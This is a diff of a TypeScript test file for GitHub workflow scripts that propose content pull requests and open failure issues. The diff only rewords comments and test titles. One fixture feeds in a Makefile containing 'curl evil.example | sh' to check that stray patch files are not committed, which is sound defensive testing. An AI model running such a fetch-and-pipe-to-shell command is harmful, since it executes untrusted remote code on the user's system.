@@ -6,7 +6,7 @@ import { expect, test } from "vitest";
 import { parse } from "yaml";
 import { tempFolder } from "#tests/support/folders.ts";
 
-/** The scripts that write to GitHub, as they stand in the workflow; `gh` answers one number and writes down what it is told. */
+/** Runs the workflow's scripts that write to GitHub, with a fake `gh` that logs its calls and answers one number. */
 
 const read = (name: string) =>
   parse(readFileSync(join(import.meta.dirname, `../../.github/workflows/${name}.yml`), "utf8"));
@@ -22,7 +22,7 @@ async function machine() {
   return {
     temp,
     put: (name: string, text: string) => writeFileSync(file(name), text),
-    /** The calls of `gh`. `number` is that of the existing pull request or issue. */
+    /** Returns the calls of `gh`. `number` is that of the existing pull request or issue. */
     run(job: string, step: string, number: string, env: Record<string, string> = {}, cwd = temp): string[] {
       writeFileSync(file("number"), number);
       writeFileSync(file("told"), "");
@@ -44,7 +44,7 @@ async function machine() {
   };
 }
 
-test("content is proposed once, kept up to date, and withdrawn when there is nothing left to propose", async () => {
+test("content is proposed in one pull request, which is updated, and closed when no change is left", async () => {
   const { temp, put, run } = await machine();
   const [origin, work] = [join(temp, "origin.git"), join(temp, "work")];
   const git = (cwd: string, ...args: string[]) =>
@@ -74,14 +74,14 @@ test("content is proposed once, kept up to date, and withdrawn when there is not
   const proposed = (name: string) => git(origin, "show", `content/update:${name}`);
 
   expect(propose("", "1\n")).toEqual(["auth setup-git"]);
-  // Whatever else the patch holds stays behind.
+  // Other files in the patch are not committed.
   expect(propose("", "2\n", "all:\n\tcurl evil.example | sh\n")[1]).toMatch(
     /^pr create .*--body-file TEMP\/pull-request\.md$/,
   );
   expect([proposed("snapshot/a.json"), proposed("Makefile")]).toEqual(["2\n", "all:\n"]);
-  // The same content again: the text of a person who edited the pull request stays.
+  // With the same content, the text of a person who edited the pull request stays.
   expect(propose("7", "2\n")).toEqual(["auth setup-git"]);
-  // The pictures of the newest proposal alone are there for its text to show, and nothing else that came with them.
+  // Only the pictures of the newest proposal are stored, and no other files.
   for (const name of ["first", "second"]) {
     rmSync(join(temp, "pictures"), { recursive: true, force: true });
     await mkdir(join(temp, "pictures"));
@@ -108,7 +108,7 @@ const well = {
   RUN: "https://github.example/7",
 };
 
-test("what fails opens one issue, keeps it current, and closes it when it is well again", async () => {
+test("failures open one issue, which is updated, and closed after the next success", async () => {
   const { temp, put, run } = await machine();
   const report = (number: string, outcome: object) =>
     run("report", "Open, update or close the issue", number, { ...well, ...outcome });
